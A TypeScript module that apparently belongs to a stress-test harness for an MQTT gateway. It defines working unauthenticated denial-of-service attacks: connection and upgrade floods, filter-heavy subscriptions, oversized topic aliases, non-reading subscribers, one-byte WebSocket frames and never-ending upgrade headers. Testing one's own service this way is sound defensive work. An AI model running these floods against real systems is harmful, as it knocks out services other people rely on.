// Attacks on mqtt-gateway by clients without credentials, over TCP and WebSocket.
import { type Attack, inParallel, type Targets } from './attack.ts';
import { flood } from './flood-socket.ts';
import {
  binaryFrame,
  connectV5,
  oneByteFrames,
  packet,
  publishV5,
  publishWithAlias,
  subscribeV5,
  upgradeRequest,
} from './mqtt-bytes.ts';

/** Shorter than any CONNACK, and than any answer to a request for a WebSocket. */
const ANY_ANSWER_BYTES = 5;
const PACKETS_PER_WRITE = 200;

const connectAs = (prefix: string) => (n: number) => connectV5(`${prefix}-${process.pid}-${n}`);

/** The same packets on some connections. */
function packets(connections: number, next: (n: number) => Buffer): Attack {
  return ({ mqttPort }: Targets, over) =>
    inParallel(connections, () => flood({ port: mqttPort, over, first: connectAs('flood'), next }));
}

const connects: Attack = ({ mqttPort }, over) =>
  inParallel(200, () =>
    flood({ port: mqttPort, over, first: connectAs('connect'), closeAfterBytes: ANY_ANSWER_BYTES }),
  );

function filters(n: number): Buffer {
  // Every kind of filter, none of them twice on a connection.
  const wanted = Array.from({ length: 1_000 }, (_, f) => `+/${n % 12}/f${f}/+/${f % 2 === 0 ? '#' : 'x'}`);
  return subscribeV5((n % 60_000) + 1, wanted);
}

function tinyPublishes(): Buffer {
  const each = publishV5('flood/t', Buffer.from('x'));
  return Buffer.concat(Array.from({ length: PACKETS_PER_WRITE }, () => each));
}

/** Each alias anew to another name, as long as names may be. */
function aliases(n: number): Buffer {
  return publishWithAlias(`${n % 97}${'a'.repeat(60_000)}`, (n % 64) + 1);
}

const lazySubscribers: Attack = async ({ mqttPort }, over) => {
  const lazy = inParallel(50, () =>
    flood({
      port: mqttPort,
      over,
      reads: false,
      first: (n) => Buffer.concat([connectAs('lazy')(n), subscribeV5(1, ['lazy/#'])]),
    }),
  );
  const payload = Buffer.alloc(16 * 1024, 'x');
  const loud = inParallel(2, () =>
    flood({
      port: mqttPort,
      over,
      first: connectAs('loud'),
      next: () => publishV5('lazy/x', payload),
    }),
  );
  await Promise.all([lazy, loud]);
};

const upgrades: Attack = ({ webSocketPort }, over) =>
  inParallel(100, () =>
    flood({ port: webSocketPort, over, first: upgradeRequest, closeAfterBytes: ANY_ANSWER_BYTES }),
  );

/** A packet that never ends, a byte to the message. */
const slowMessages: Attack = ({ webSocketPort }, over) => {
  const frames = oneByteFrames(Buffer.alloc(1_000));
  return inParallel(20, () =>
    flood({
      port: webSocketPort,
      over,
      first: (n) =>
        Buffer.concat([
          upgradeRequest(),
          binaryFrame(connectAs('ws')(n)),
          binaryFrame(packet(0x30, Buffer.alloc(900_000)).subarray(0, 6)),
        ]),
      next: () => frames,
    }),
  );
};

/** Requests whose head never ends. */
const unfinishedUpgrades: Attack = ({ webSocketPort }, over) => {
  const begun = upgradeRequest().subarray(0, -4);
  const line = Buffer.from(`\r\nx-more: ${'x'.repeat(100)}`);
  return inParallel(200, () => flood({ port: webSocketPort, over, first: () => begun, next: () => line }));
};

/** By name. */
export const MQTT_ATTACKS = {
  connects,
  'subscriptions of a thousand filters': packets(10, filters),
  'publishes of one byte': packets(8, tinyPublishes),
  'topic aliases': packets(8, aliases),
  'subscribers that never read': lazySubscribers,
  'upgrades to WebSocket': upgrades,
  'WebSocket messages of one byte': slowMessages,
  'unfinished requests for a WebSocket': unfinishedUpgrades,
} satisfies Record<string, Attack>;
